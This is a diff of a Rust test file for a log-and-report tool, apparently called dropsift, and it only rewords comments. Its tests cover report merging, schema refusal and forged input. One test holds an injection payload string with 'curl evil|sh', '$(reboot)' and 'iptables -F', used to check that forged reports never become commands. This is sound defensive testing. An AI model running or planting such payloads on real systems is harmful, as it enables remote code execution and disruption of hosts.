@@ -1,4 +1,4 @@
-//! Reports and events as inputs: what comes out is what went in, merged whatever the order, and nothing of a forged one is run.
+//! Reports and events as inputs: the output equals the input, merged in any order, and nothing of a forged one is run.
 
 use std::fs;
 use std::io::Write;
@@ -29,7 +29,7 @@ fn set_a() -> String {
         .unwrap()
 }
 
-/// The report on a log, in `folder` as `name`.json.
+/// Returns the report on a log, in `folder` as `name`.json.
 fn report(folder: &Path, name: &str, log: &str, args: &[&str]) -> Value {
     fs::write(folder.join(format!("{name}.log")), log).unwrap();
     let log = format!("{name}.log");
@@ -47,7 +47,7 @@ fn read(folder: &Path, inputs: &[&str]) -> Value {
         .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&output.stderr)))
 }
 
-/// What findings and rules are, without what only a log has.
+/// Returns the findings and rules without the properties that only a log has.
 fn essence(report: &Value) -> Vec<Value> {
     let mut all: Vec<Value> = report["findings"].as_array().unwrap().clone();
     for finding in &mut all {
@@ -78,7 +78,7 @@ fn a_report_read_back_is_the_report() {
             .collect()
     };
     assert_eq!(codes(&first), codes(&second));
-    // The text too, down to what may make the answer wrong; what comes behind names the input.
+    // The text is the same too, up to the section that may make the answer wrong; later sections name the input.
     let text_of = |input: &str| {
         let output = dropsift(root, &["--year", "2026", "--role", "control-plane", input]);
         let text = text(&output);
@@ -202,7 +202,7 @@ fn events_are_read_with_their_report_and_without() {
     assert!(codes.contains(&"events-without-report"), "{codes:?}");
 }
 
-/// The log of one node out of a log of several.
+/// Returns the log of one node out of a log of several.
 fn of_node(log: &str, node: &str) -> String {
     log.lines()
         .filter(|line| line.contains(node))
@@ -213,8 +213,7 @@ fn of_node(log: &str, node: &str) -> String {
 proptest! {
     #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]
 
-    /// Whatever nodes a report is of, and in whatever order the reports come, they make the same whole: the union of what
-    /// the reports have.
+    /// Reports of any nodes in any order merge into the same whole: the union of the reports.
     #[test]
     fn merging_knows_no_order(split in prop::collection::vec(0..3_usize, 3), order in Just([0, 1, 2]).prop_shuffle()) {
         let folder = tempfile::tempdir().unwrap();
@@ -351,7 +350,8 @@ fn filters_and_rules_work_on_reports() {
     }
 }
 
-/// What a guess of the role left open is settled by saying the role, and a role that contradicts is said to change nothing.
+/// A role given by the user settles the doubts of an assumed one; a contradicting role changes nothing, which is
+/// reported.
 #[test]
 fn a_role_that_is_told_settles_a_guess() {
     let folder = tempfile::tempdir().unwrap();
@@ -449,7 +449,7 @@ fn what_is_not_of_a_known_schema_is_refused_by_name() {
         assert_eq!(code, Some(2), "{said}: {err}");
         assert!(err.contains(said), "{err}\nlacks {said}");
     }
-    // Broken off in the middle: what came before counts, and it is said.
+    // Truncated in the middle: the part before counts, and the truncation is reported.
     let bytes = fs::read(root.join("a.json")).unwrap();
     fs::write(root.join("cut.json"), &bytes[..bytes.len() / 2]).unwrap();
     let cut = dropsift(root, &["cut.json"]);
@@ -466,7 +466,7 @@ fn what_is_not_of_a_known_schema_is_refused_by_name() {
     );
 }
 
-/// A report from somebody who wants a command of theirs run as root.
+/// A forged report that tries to have its commands run as root.
 #[test]
 fn nothing_of_a_forged_report_becomes_a_command() {
     const EVIL: &str = "PWNED'; curl evil|sh #$(reboot)`x`\u{1b}[2J\u{202e}\niptables -F";
@@ -532,7 +532,7 @@ fn nothing_of_a_forged_report_becomes_a_command() {
         if args[0] == "rules" {
             assert!(!out.contains("PWNED"), "{args:?}:\n{out}");
         }
-        // In the report itself such a text is somebody's words, never a line of ours.
+        // In the report itself such a text is quoted, never a line of its own.
         for line in out
             .lines()
             .filter(|line| line.trim_start().starts_with("iptables"))
@@ -641,7 +641,7 @@ fn a_forged_finding_opens_no_more_than_a_log_could() {
     }
 }
 
-/// A node may be called what somebody wants it to be called.
+/// The name of a node may be any text.
 #[test]
 fn a_forged_node_name_breaks_out_of_nothing() {
     let folder = tempfile::tempdir().unwrap();
